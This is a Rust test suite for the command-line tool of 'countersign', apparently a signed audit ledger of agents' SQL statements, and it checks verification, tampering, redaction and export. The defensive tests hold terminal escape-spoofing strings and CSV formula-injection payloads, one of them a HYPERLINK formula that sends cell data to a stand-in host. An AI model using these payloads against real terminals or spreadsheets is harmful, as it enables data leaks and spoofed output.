//! The ledger's commands, as an auditor and an operator use them.
#![allow(
    missing_docs,
    unreachable_pub,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::disallowed_methods,
    clippy::wildcard_enum_match_arm,
    reason = "a test has no callers, and what is wrong should stop it"
)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;
use std::time::Duration;

use countersign::actor::{Agent, AgentIdentity, AuthenticationMethod, Claims};
use countersign::ledger::{Clearance, Ledger, SessionInfo, SessionLog, Settings, StatementRecord};
use countersign::statement::{Digest, Ending, Outcome, SessionId, SqlState, Statement, Target};
use serde_json::Value;

fn countersign(arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_countersign")).args(arguments).output().unwrap()
}

fn said(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr)
}

/// The output, of a command that succeeds.
fn good(arguments: &[&str]) -> String {
    let output = countersign(arguments);
    assert!(output.status.success(), "{arguments:?}: {}", said(&output));
    String::from_utf8(output.stdout).unwrap()
}

fn code(arguments: &[&str]) -> i32 {
    countersign(arguments).status.code().unwrap()
}

/// A copy of the ledger in `fixtures/`.
struct Fixture {
    directory: tempfile::TempDir,
}

impl Fixture {
    fn new() -> Self {
        let directory = tempfile::tempdir().unwrap();
        let from = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/ledger/good");
        for entry in std::fs::read_dir(from).unwrap().flatten() {
            std::fs::copy(entry.path(), directory.path().join(entry.file_name())).unwrap();
        }
        Self { directory }
    }

    fn path(&self, name: &str) -> String {
        self.directory.path().join(name).display().to_string()
    }

    /// The root's public key, as an auditor has it.
    fn key(&self) -> String {
        let key = self.path("auditor.pub");
        std::fs::copy(self.path("ledger.db.pub"), &key).unwrap();
        key
    }
}

#[test]
fn verify_says_what_was_checked_and_ends_with_its_verdict() {
    let fixture = Fixture::new();
    let (ledger, key, head) = (fixture.path("ledger.db"), fixture.key(), fixture.path("head"));

    let unanchored = countersign(&["ledger", "verify", &ledger]);
    assert_eq!(unanchored.status.code(), Some(1));
    assert!(
        said(&unanchored).contains("Give --key with a copy that was kept elsewhere"),
        "{}",
        said(&unanchored)
    );
    assert!(said(&unanchored).contains("vouches for entry 0"), "{}", said(&unanchored));

    let anchored = good(&["ledger", "verify", &ledger, "--key", &key, "--anchor", &head]);
    assert!(anchored.ends_with("VERIFIED, and an anchor covers the last entry.\n"), "{anchored}");

    let json: Value = serde_json::from_str(&good(&[
        "ledger", "verify", &ledger, "--key", &key, "--anchor", &head, "--json",
    ]))
    .unwrap();
    assert_eq!((&json["verified"], &json["exit_code"]), (&true.into(), &0.into()));
    assert_eq!(json["anchored"], json["entries"]);

    assert_eq!(code(&["ledger", "verify", &fixture.path("nothing.db")]), 2);
    assert_eq!(code(&["ledger", "verify", &ledger, "--key", &fixture.path("nothing.pub")]), 2);
    assert_eq!(code(&["ledger", "verify", &ledger, "--anchor", &fixture.path("nothing")]), 2);
    assert_eq!(code(&["ledger", "verify"]), 2);
}

#[test]
fn key_and_anchor_from_beside_the_ledger_vouch_for_nothing() {
    let fixture = Fixture::new();
    let (ledger, head, key) = (fixture.path("ledger.db"), fixture.path("head"), fixture.key());
    let anchors = fixture.directory.path().join("anchors");
    std::fs::create_dir(&anchors).unwrap();
    let beside = anchors.join("head");
    std::fs::copy(&head, &beside).unwrap();
    let (beside, link) = (beside.to_str().unwrap(), fixture.path("link"));
    std::os::unix::fs::symlink(fixture.path("ledger.db.pub"), &link).unwrap();
    let own = fixture.path("ledger.db.pub");
    let reservations = |arguments: &[&str]| {
        let output = countersign(&[&["ledger", "verify", &ledger, "--json"], arguments].concat());
        let json: Value = serde_json::from_slice(&output.stdout).unwrap();
        assert_eq!(Some(json["exit_code"].as_i64().unwrap() as i32), output.status.code());
        let all = json["reservations"].as_array().unwrap();
        all.iter().map(|one| one["name"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };

    assert_eq!(reservations(&["--key", &key, "--anchor", &head]), Vec::<String>::new());
    assert_eq!(reservations(&["--anchor", &head]), ["key_beside"]);
    for key in [&own, &link] {
        assert_eq!(reservations(&["--key", key, "--anchor", &head]), ["key_beside"], "{key}");
    }
    assert_eq!(reservations(&["--key", &key, "--anchor", beside]), ["anchor_beside"]);
    assert_eq!(reservations(&["--key", &key, "--anchor", beside, "--anchor", &head]), Vec::<String>::new());
    assert_eq!(reservations(&["--key", &key]), ["tail_not_anchored"]);
    assert_eq!(reservations(&[]), ["key_beside", "tail_not_anchored"]);
}

#[test]
fn a_ledger_that_records_damage_is_verified_with_a_reservation() {
    let running = Running::new();
    let (ledger, log) = running.open();
    run(&log, "select 1");
    drop(log);
    ledger.close();
    // What a start finds after somebody took the spool of a run that had not ended.
    std::fs::remove_file(running.directory.path().join("ledger.db.spool/ended")).unwrap();
    let (ledger, log) = running.open();
    assert!(ledger.recovery().damaged);
    drop(log);
    ledger.close();
    let elsewhere = tempfile::tempdir().unwrap();
    let copied = |name: &str| {
        let to = elsewhere.path().join(name);
        std::fs::copy(running.directory.path().join(name), &to).unwrap();
        to.display().to_string()
    };
    let (copy, key, anchor) =
        (copied("ledger.db"), elsewhere.path().join("a.pub"), elsewhere.path().join("anchor"));
    std::fs::copy(running.directory.path().join("ledger.db.pub"), &key).unwrap();
    let (key, anchor) = (key.to_str().unwrap(), anchor.to_str().unwrap());
    good(&["ledger", "anchor", &copy, "-o", anchor]);

    let output = countersign(&["ledger", "verify", &copy, "--key", key, "--anchor", anchor]);

    assert_eq!(output.status.code(), Some(1), "{}", said(&output));
    assert!(said(&output).contains("(recovered): the spool was damaged"), "{}", said(&output));
    let json = countersign(&["ledger", "verify", &copy, "--key", key, "--anchor", anchor, "--json"]);
    let json: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(json["reservations"][0]["name"], "recorded_damage");
    assert_eq!(json["damage"][0]["kind"], "recovered");
}

/// Every command that shows what entries say.
fn showing<'a>(ledger: &'a str, seq: &'a str) -> Vec<Vec<&'a str>> {
    vec![
        vec!["ledger", "show", ledger, seq],
        vec!["ledger", "show", ledger, seq, "--json"],
        vec!["ledger", "query", ledger],
        vec!["ledger", "query", ledger, "--json"],
        vec!["ledger", "export", ledger],
        vec!["ledger", "export", ledger, "--format", "csv"],
        vec!["ledger", "tail", ledger, "-n", "1000"],
        vec!["ledger", "tail", ledger, "-n", "1000", "--json"],
    ]
}

#[test]
fn a_text_that_was_exchanged_is_shown_by_no_command() {
    for with_its_index in [true, false] {
        let fixture = Fixture::new();
        let ledger = fixture.path("ledger.db");
        let connection = rusqlite::Connection::open(&ledger).unwrap();
        let text = |seq: i64| {
            let sql = "SELECT salt, value FROM payload WHERE seq = ?1 AND field = 40";
            connection
                .query_row(sql, [seq], |row| Ok((row.get::<_, Vec<u8>>(0)?, row.get::<_, Vec<u8>>(1)?)))
                .unwrap()
        };
        let harmless = b"select 'nothing but this was asked'".to_vec();
        let (salt, _) = text(9);
        let sql = "UPDATE payload SET salt = ?1, value = ?2 WHERE seq = 9 AND field = 40";
        connection.execute(sql, rusqlite::params![salt, harmless]).unwrap();
        drop(connection);
        if !with_its_index {
            std::fs::remove_file(fixture.path("ledger.db.index.db")).unwrap();
        }

        for command in showing(&ledger, "9") {
            let output = countersign(&command);
            let said = said(&output);
            assert!(!said.contains("nothing but this"), "{command:?}: {said}");
            assert_eq!(output.status.code(), Some(20), "{command:?}: {said}");
        }
    }
}

/// Changes a fixture ledger by SQL and expects this exit code of every command that shows entry `seq`.
fn expect_of_all_commands(sql: &str, seq: &str, exit: i32, words: &str) {
    for with_its_index in [true, false] {
        let fixture = Fixture::new();
        let ledger = fixture.path("ledger.db");
        rusqlite::Connection::open(&ledger).unwrap().execute_batch(sql).unwrap();
        if !with_its_index {
            std::fs::remove_file(fixture.path("ledger.db.index.db")).unwrap();
        }
        for command in showing(&ledger, seq) {
            let output = countersign(&command);
            let said = said(&output);
            assert_eq!(output.status.code(), Some(exit), "{command:?}: {said}");
            assert!(said.contains(words), "{command:?}: {said}");
        }
    }
}

#[test]
fn a_deleted_text_is_damage_for_every_command() {
    let sql = "DELETE FROM payload WHERE seq = 9 AND field = 40";
    expect_of_all_commands(sql, "9", 20, "entry 9: the text \"sql\" was deleted");
}

#[test]
fn a_missing_signature_is_damage_for_every_command() {
    let sql = "UPDATE entry SET sig = NULL WHERE seq = 9";
    expect_of_all_commands(sql, "9", 13, "entry 9: its signature is missing");
}

#[test]
fn a_missing_last_entry_is_damage_for_every_command() {
    let fixture = Fixture::new();
    let connection = rusqlite::Connection::open(fixture.path("ledger.db")).unwrap();
    let last: i64 = connection.query_row("SELECT max(seq) FROM entry", [], |row| row.get(0)).unwrap();
    let sql = format!("DELETE FROM entry WHERE seq = {last}");
    let words = format!("entry {last}: the ledger ends before it");
    expect_of_all_commands(&sql, &last.to_string(), 18, &words);
}

#[test]
fn a_missing_entry_in_the_middle_is_damage_for_tail_export_and_show() {
    let fixture = Fixture::new();
    let ledger = fixture.path("ledger.db");
    let connection = rusqlite::Connection::open(&ledger).unwrap();
    connection.execute("DELETE FROM entry WHERE seq = 9", []).unwrap();
    drop(connection);

    for command in showing(&ledger, "9").into_iter().filter(|command| !command.contains(&"query")) {
        let output = countersign(&command);
        assert_eq!(output.status.code(), Some(12), "{command:?}: {}", said(&output));
        assert!(said(&output).contains("entry 9: the entry is missing"), "{command:?}: {}", said(&output));
    }
}

#[test]
fn an_entry_that_was_altered_is_shown_by_no_command() {
    let fixture = Fixture::new();
    let ledger = fixture.path("ledger.db");
    let connection = rusqlite::Connection::open(&ledger).unwrap();
    let body: Vec<u8> =
        connection.query_row("SELECT body FROM entry WHERE seq = 9", [], |row| row.get(0)).unwrap();
    let at = body.windows(13).position(|word| word == b"reporting-bot").unwrap();
    let mut altered = body;
    altered[at..at + 13].copy_from_slice(b"somebody-else");
    connection.execute("UPDATE entry SET body = ?1 WHERE seq = 9", [altered]).unwrap();
    drop(connection);
    std::fs::remove_file(fixture.path("ledger.db.index.db")).unwrap();

    for command in showing(&ledger, "9") {
        let output = countersign(&command);
        let said = said(&output);
        assert!(!said.contains("somebody-else"), "{command:?}: {said}");
        assert_eq!(output.status.code(), Some(15), "{command:?}: {said}");
    }
    assert_eq!(code(&["ledger", "prove", &ledger, "9"]), 2, "there is no proof of it");
}

#[test]
fn an_index_that_says_something_else_is_not_believed() {
    let lies = [
        "UPDATE statement SET agent = 'mallory' WHERE seq = 9",
        "UPDATE statement SET sql = 'select mallory' WHERE seq = 9",
        "INSERT INTO outcome (seq, time, ref, ending, tag) VALUES (100000, '2026', 9, 'failed', 'mallory')",
    ];
    for lie in lies {
        let fixture = Fixture::new();
        let ledger = fixture.path("ledger.db");
        let connection = rusqlite::Connection::open(fixture.path("ledger.db.index.db")).unwrap();
        connection.execute_batch(lie).unwrap();
        drop(connection);

        for json in [&["--json"][..], &[]] {
            let output = countersign(&[&["ledger", "query", &ledger], json].concat());
            let said = said(&output);
            assert!(!said.contains("mallory"), "{lie}: {said}");
            assert_eq!(output.status.code(), Some(16), "{lie}: {said}");
        }
    }
}

/// What a terminal would obey, or draw as nothing.
fn is_obeyed(c: char) -> bool {
    let invisible = ['\u{ad}', '\u{34f}', '\u{61c}', '\u{115f}', '\u{3164}', '\u{feff}', '\u{2800}'];
    let ranges = [
        '\u{200b}'..='\u{200f}',
        '\u{2028}'..='\u{202e}',
        '\u{2060}'..='\u{206f}',
        '\u{e0000}'..='\u{e007f}',
    ];
    c.is_control() && c != '\n' || invisible.contains(&c) || ranges.iter().any(|range| range.contains(&c))
}

#[test]
fn nothing_that_an_agent_sent_is_obeyed_by_a_terminal() {
    let spoof = "x\u{1b}[G\u{1b}[2K\u{9b}8m\u{202e}\u{2066}\u{200b}\u{feff}\u{ad}\u{3164}\u{e0041}\u{7}\u{7f}\r\nowners  else";
    let running = Running::new();
    let ledger = Ledger::open(&running.settings()).unwrap();
    let mut info = session();
    let claims = || Claims { task: Some(spoof.into()), purpose: Some(spoof.into()), ..Claims::default() };
    info.claimed = claims();
    let identity = Arc::make_mut(&mut info.identity);
    identity.verified = claims();
    identity.client_address = spoof.into();
    let log = ledger.session_opened(&info).unwrap();
    run(&log, &format!("select '{spoof}' as \"{spoof}\""));
    log.claims(&Claims { model: Some(spoof.into()), ..Claims::default() });
    log.closed(spoof);
    drop(log);
    ledger.close();

    let exported = good(&["ledger", "export", running.path()]);
    for seq in 0..exported.lines().count() {
        for command in showing(running.path(), &seq.to_string()) {
            let is_csv = command.contains(&"csv");
            let said = good(&command);
            let obeyed: Vec<char> = said.chars().filter(|c| !is_csv && is_obeyed(*c)).collect();
            assert!(obeyed.is_empty(), "{command:?}: {obeyed:?}");
            let passes = said.lines().any(|line| line.starts_with("owners  else"));
            assert!(is_csv || !passes, "{command:?}: a line of the agent's passes for one of ours");
        }
    }
}

#[test]
fn each_claim_is_exported_under_its_own_name_with_its_own_value() {
    let running = Running::new();
    let ledger = Ledger::open(&running.settings()).unwrap();
    let mut info = session();
    let purpose = "nightly, model=large-9, version=approved\n\"model\": \"large-9\", claimed.model=x";
    info.claimed =
        Claims { model: Some("small-1".into()), purpose: Some(purpose.into()), ..Claims::default() };
    Arc::make_mut(&mut info.identity).verified =
        Claims { model: Some("verified-1".into()), ..Claims::default() };
    let log = ledger.session_opened(&info).unwrap();
    run(&log, "select 1");
    drop(log);
    ledger.close();

    let exported = good(&["ledger", "export", running.path()]);
    let mut seen = 0;
    for line in exported.lines() {
        let entry: Value = serde_json::from_str(line).unwrap();
        if entry.get("claimed").is_some() {
            assert_eq!(entry["claimed"], serde_json::json!({ "model": "small-1", "purpose": purpose }));
            assert_eq!(entry["verified"], serde_json::json!({ "model": "verified-1" }));
            seen += 1;
        }
    }
    assert!(seen >= 2, "{exported}");
    let csv = good(&["ledger", "export", running.path(), "--format", "csv"]);
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let column = rows.headers().unwrap().iter().position(|name| name == "claimed").unwrap();
    let cells: Vec<String> =
        rows.records().map(|row| row.unwrap()[column].to_owned()).filter(|cell| !cell.is_empty()).collect();
    for cell in &cells {
        let claims: Value = serde_json::from_str(cell).unwrap();
        assert_eq!(claims, serde_json::json!({ "model": "small-1", "purpose": purpose }));
    }
    assert_eq!(cells.len(), seen);
}

#[test]
fn no_cell_of_a_csv_export_is_a_formula() {
    let running = Running::new();
    let (ledger, log) = running.open();
    let texts = [
        "=HYPERLINK(\"http://x/?\"&B2,\"y\")",
        "@SUM(1)",
        "+1",
        "-2+3",
        " =1",
        "\t=1",
        "\r\n=1",
        "\"=1",
        "＝1",
        "'=1",
        "=\u{200b}1",
        "\u{feff}=1",
        "a;=1",
    ];
    for text in texts {
        run(&log, text);
    }
    drop(log);
    ledger.close();

    let csv = good(&["ledger", "export", running.path(), "--format", "csv"]);

    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let column = rows.headers().unwrap().iter().position(|name| name == "sql").unwrap();
    let mut found = Vec::new();
    for row in rows.records().map(Result::unwrap) {
        for cell in &row {
            let seen = cell.trim_start_matches(|c: char| {
                c.is_whitespace() || c.is_control() || "\"\u{feff}".contains(c)
            });
            assert!(!seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell:?}");
            assert!(!cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
        }
        // Without its first apostrophe, each is what was sent.
        found.extend(Some(row[column].strip_prefix('\'').unwrap_or(&row[column]).to_owned()));
    }
    assert!(texts.iter().all(|text| found.iter().any(|cell| cell == text)), "{found:?}");
}

#[test]
fn verify_names_the_first_entry_that_is_wrong() {
    let fixture = Fixture::new();
    let ledger = fixture.path("ledger.db");
    let connection = rusqlite::Connection::open(&ledger).unwrap();
    connection.execute("DELETE FROM entry WHERE seq = 40", []).unwrap();
    drop(connection);

    let output = countersign(&["ledger", "verify", &ledger]);

    assert_eq!(output.status.code(), Some(12));
    assert!(
        said(&output).contains("NOT VERIFIED: order (exit code 12)\n  entry 40: it is missing"),
        "{}",
        said(&output)
    );
}

#[test]
fn one_entry_is_shown_whole_and_proved_alone() {
    let fixture = Fixture::new();
    let (ledger, key) = (fixture.path("ledger.db"), fixture.path("ledger.db.pub"));
    let json: Value = serde_json::from_str(&good(&["ledger", "show", &ledger, "9", "--json"])).unwrap();
    assert_eq!(json["kind"], "statement");
    assert!(json["texts"]["sql"].as_str().unwrap().starts_with("select"), "{json}");
    let shown = good(&["ledger", "show", &ledger, "9"]);
    assert!(shown.contains("its signature holds; it is in the tree"), "{shown}");

    let proof = fixture.path("9.tlog-proof");
    good(&["ledger", "prove", &ledger, "9", "-o", &proof]);
    let checked = good(&["ledger", "prove", &proof, "--check", "--key", &key]);
    assert!(checked.starts_with("PROVED: entry 9 (statement)"), "{checked}");

    let text = std::fs::read_to_string(&proof).unwrap();
    std::fs::write(&proof, text.replace("index 9", "index 8")).unwrap();
    assert_eq!(code(&["ledger", "prove", &proof, "--check", "--key", &key]), 15);
    std::fs::write(&proof, text.replace("example.com/ledger\n1", "example.com/ledger\n2")).unwrap();
    assert_eq!(code(&["ledger", "prove", &proof, "--check", "--key", &key]), 14);
    assert_eq!(code(&["ledger", "show", &ledger, "99999"]), 2);
}

#[test]
fn an_anchor_from_the_command_line_is_one_to_verify() {
    let fixture = Fixture::new();
    let (ledger, anchor) = (fixture.path("ledger.db"), fixture.path("anchor.txt"));

    good(&["ledger", "anchor", &ledger, "-o", &anchor]);

    assert_eq!(code(&["ledger", "verify", &ledger, "--key", &fixture.key(), "--anchor", &anchor]), 0);
    assert_eq!(code(&["ledger", "anchor", &ledger, "-o", &anchor]), 2, "nothing is overwritten");
}

#[test]
fn statements_are_found_by_what_people_ask_for() {
    let fixture = Fixture::new();
    let ledger = fixture.path("ledger.db");
    let found = |arguments: &[&str]| {
        let all = [&["ledger", "query", &ledger, "--json"], arguments].concat();
        let rows: Value = serde_json::from_str(&good(&all)).unwrap();
        rows.as_array().unwrap().len()
    };

    assert_eq!(found(&["--class", "export"]), 1);
    assert_eq!(found(&["--agent", "etl-bot", "--class", "ddl"]), 2);
    assert_eq!(found(&["--decision", "granted"]), 4);
    assert_eq!(found(&["--decision", "refused"]), 3);
    assert_eq!(found(&["--decision", "denied_by_policy"]), 1);
    assert_eq!(found(&["--reviewer", "carol@example.com"]), 2);
    assert_eq!(found(&["--contains", "CUSTOMERS to stdout"]), 1);
    assert_eq!(found(&["--since", "2026-01-01T00:00:00Z", "--until", "2026-01-01T00:00:00.010Z"]), 1);
    assert_eq!(found(&["--since", "2027-01-01"]), 0);
    assert_eq!(found(&["--limit", "7"]), 7);
    let table = good(&["ledger", "query", &ledger, "--class", "export"]);
    assert!(
        table.contains("bob@example.com, carol@example.com") && table.ends_with("1 statement\n"),
        "{table}"
    );
    assert_eq!(code(&["ledger", "query", &ledger, "--since", "whenever"]), 2);
}

#[test]
fn exports_have_every_entry_and_the_bytes_that_were_signed() {
    use base64::Engine as _;
    let fixture = Fixture::new();
    let ledger = fixture.path("ledger.db");

    let lines = good(&["ledger", "export", &ledger]);

    for (seq, line) in lines.lines().enumerate() {
        let entry: Value = serde_json::from_str(line).unwrap();
        assert_eq!(entry["seq"], seq);
        let body = base64::engine::general_purpose::STANDARD.decode(entry["cbor"].as_str().unwrap()).unwrap();
        let leaf = Digest::of(&[&[0][..], &body].concat());
        assert_eq!(entry["leaf"], leaf.to_string());
    }
    let csv = good(&["ledger", "export", &ledger, "--format", "csv", "--from", "10", "--to", "19"]);
    assert_eq!(csv::Reader::from_reader(csv.as_bytes()).records().count(), 10);
}

#[test]
fn the_newest_entries_are_shown_in_lines() {
    let fixture = Fixture::new();

    let tail = good(&["ledger", "tail", &fixture.path("ledger.db"), "-n", "5"]);

    assert_eq!(tail.lines().count(), 5);
    assert!(tail.lines().last().unwrap().contains("session_closed"), "{tail}");
}

/// A ledger with a key made by the command line, and a few statements.
struct Running {
    directory: tempfile::TempDir,
    ledger: PathBuf,
}

impl Running {
    fn new() -> Self {
        let directory = tempfile::tempdir().unwrap();
        let ledger = directory.path().join("ledger.db");
        let key = directory.path().join("ledger.db.key");
        good(&["key", "init", key.to_str().unwrap(), "--origin", "example.com/cli"]);
        Self { directory, ledger }
    }

    fn settings(&self) -> Settings {
        let mut settings = Settings::new(&self.ledger);
        settings.key = Some(self.directory.path().join("ledger.db.key"));
        settings
    }

    fn open(&self) -> (Ledger, SessionLog) {
        let ledger = Ledger::open(&self.settings()).unwrap();
        let log = ledger.session_opened(&session()).unwrap();
        (ledger, log)
    }

    fn path(&self) -> &str {
        self.ledger.to_str().unwrap()
    }

    /// Files of the ledger, its spool and its index among them, in which these words are.
    fn files_with(&self, words: &str) -> Vec<PathBuf> {
        fn walk(folder: &Path, words: &[u8], found: &mut Vec<PathBuf>) {
            for entry in std::fs::read_dir(folder).unwrap().flatten() {
                let path = entry.path();
                if path.is_dir() {
                    walk(&path, words, found);
                } else if std::fs::read(&path).unwrap().windows(words.len()).any(|window| window == words) {
                    found.push(path);
                }
            }
        }
        let mut found = Vec::new();
        walk(self.directory.path(), words.as_bytes(), &mut found);
        found
    }
}

#[test]
fn a_redaction_that_somebody_keeps_from_being_carried_out_does_not_say_that_it_was() {
    let running = Running::new();
    let (ledger, log) = running.open();
    run(&log, "select 'a secret that somebody still reads'");
    run(&log, "select 'more'");
    assert!(ledger.flush(Duration::from_secs(10)));
    let rows: Value =
        serde_json::from_str(&good(&["ledger", "query", running.path(), "--contains", "secret", "--json"]))
            .unwrap();
    // A reader's snapshot keeps the write-ahead log.
    let reader = rusqlite::Connection::open(&running.ledger).unwrap();
    reader.execute_batch("BEGIN; SELECT count(*) FROM entry").unwrap();

    let output =
        countersign(&["ledger", "redact", running.path(), &rows[0]["seq"].to_string(), "--reason", "x"]);

    assert_eq!(output.status.code(), Some(1), "{}", said(&output));
    assert!(said(&output).contains("Somebody may be reading"), "{}", said(&output));
    reader.execute_batch("COMMIT").unwrap();
    drop(log);
    ledger.close();
    assert_eq!(running.files_with("somebody still reads"), Vec::<PathBuf>::new());
}

fn session() -> SessionInfo {
    SessionInfo {
        session: SessionId(uuid::Uuid::now_v7()),
        identity: Arc::new(AgentIdentity {
            agent: Arc::new(Agent {
                name: "bot".into(),
                owners: vec!["alice".into()],
                upstreams: Vec::new(),
            }),
            method: AuthenticationMethod::Certificate,
            client_address: "[unix]".into(),
            certificate_fingerprint: Some([1; 32]),
            verified: Claims::default(),
        }),
        target: Target { upstream: "app".into(), database: "app".into(), role: "app".into() },
        claimed: Claims::default(),
        at: jiff::Timestamp::UNIX_EPOCH,
    }
}

/// A statement that upstream refuses, so that no rule and no grant is needed.
fn run(log: &SessionLog, sql: &str) {
    let statement = Statement::query(sql.into());
    let classifier = countersign::classify::Classifier::new(countersign::classify::Limits::default());
    let catalogue = countersign::classify::Catalogue::built_in(15);
    let context = countersign::classify::Context {
        server_version: 15,
        catalogue: &catalogue,
        search_path: &countersign::classify::SearchPath::Unknown,
        database: "app",
        role: "app",
        strings_standard: true,
    };
    let classification = classifier.classify(&statement.sql, &context);
    let record = StatementRecord {
        statement: &statement,
        digest: statement.digest(),
        classification: &classification,
        in_transaction: true,
        request: None,
        policy: Digest::of(b""),
        rules: &[],
        wall: jiff::Timestamp::UNIX_EPOCH,
    };
    let receipt = log.record_intent(&record, Clearance::Doomed).unwrap();
    let outcome = Outcome {
        ending: Ending::Failed { sqlstate: SqlState::new("25P02").unwrap() },
        rows: 0,
        bytes: 0,
        transaction: None,
        result_digest: None,
    };
    log.outcome(receipt.intent(), &outcome, 1);
}

fn count(ledger: &str, words: &str) -> usize {
    good(&["ledger", "query", ledger, "--contains", words, "--json"]).matches("\"seq\"").count()
}

#[test]
fn a_live_ledger_verifies_and_reading_it_leaves_a_trace() {
    let running = Running::new();
    let (ledger, log) = running.open();
    run(&log, "select 'live'");
    assert!(ledger.flush(Duration::from_secs(10)));

    assert_eq!(code(&["ledger", "verify", running.path()]), 1);
    good(&["ledger", "show", running.path(), "2"]);
    std::thread::sleep(Duration::from_millis(1200));
    assert!(ledger.flush(Duration::from_secs(10)));

    let exported = good(&["ledger", "export", running.path()]);
    let reading = exported.lines().find(|line| line.contains("\"kind\":\"export\"")).expect("a trace");
    assert!(reading.contains("ledger show") && reading.contains("\"by\":\"uid "), "{reading}");
    assert_eq!(code(&["ledger", "verify", running.path()]), 1);
    drop(log);
    ledger.close();
}

#[test]
fn texts_are_redacted_with_and_without_a_running_proxy() {
    let running = Running::new();
    let (ledger, log) = running.open();
    run(&log, "select 'first secret'");
    run(&log, "select 'second secret'");
    assert!(ledger.flush(Duration::from_secs(10)));
    assert_eq!(count(running.path(), "secret"), 2);

    let seq = |words: &str| {
        let rows: Value =
            serde_json::from_str(&good(&["ledger", "query", running.path(), "--contains", words, "--json"]))
                .unwrap();
        rows[0]["seq"].to_string()
    };
    // What searches have left open, the index among it, must not keep it either.
    let reader = rusqlite::Connection::open(running.ledger.with_file_name("ledger.db.index.db")).unwrap();
    let live = good(&["ledger", "redact", running.path(), &seq("first"), "--reason", "asked to"]);
    assert_eq!(live, "redacted 1 texts\n");
    drop(reader);
    assert_eq!(running.files_with("first secret"), Vec::<PathBuf>::new());
    assert!(!running.files_with("second secret").is_empty());
    drop(log);
    ledger.close();
    good(&["ledger", "redact", running.path(), &seq("second"), "--reason", "asked to, too"]);

    assert_eq!(count(running.path(), "secret"), 0);
    assert_eq!(code(&["ledger", "verify", running.path()]), 1);
    assert_eq!(running.files_with("secret"), Vec::<PathBuf>::new());
    let again = good(&["ledger", "redact", running.path(), "5", "--reason", "twice"]);
    assert!(again.starts_with("nothing to redact"), "{again}");
}

#[test]
fn a_root_key_is_handed_over_and_either_key_verifies_the_whole() {
    let running = Running::new();
    let (ledger, log) = running.open();
    run(&log, "select 1");
    let key = running.directory.path().join("ledger.db.key");
    let rotate = ["key", "rotate", key.to_str().unwrap(), "--ledger", running.path()];
    assert_eq!(code(&rotate), 2, "not while the proxy runs");
    drop(log);
    ledger.close();

    let shown = good(&["key", "show", key.to_str().unwrap()]);
    assert!(shown.starts_with("example.com/cli+"), "{shown}");
    good(&rotate);
    assert_ne!(good(&["key", "show", key.to_str().unwrap()]), shown);
    let (ledger, log) = running.open();
    run(&log, "select 2");
    drop(log);
    ledger.close();

    let old = running.directory.path().join("ledger.db.pub.old");
    assert_eq!(code(&["ledger", "verify", running.path()]), 1);
    assert_eq!(code(&["ledger", "verify", running.path(), "--key", old.to_str().unwrap()]), 1);
    assert_eq!(code(&["key", "init", key.to_str().unwrap(), "--origin", "x"]), 2, "no key is overwritten");
}
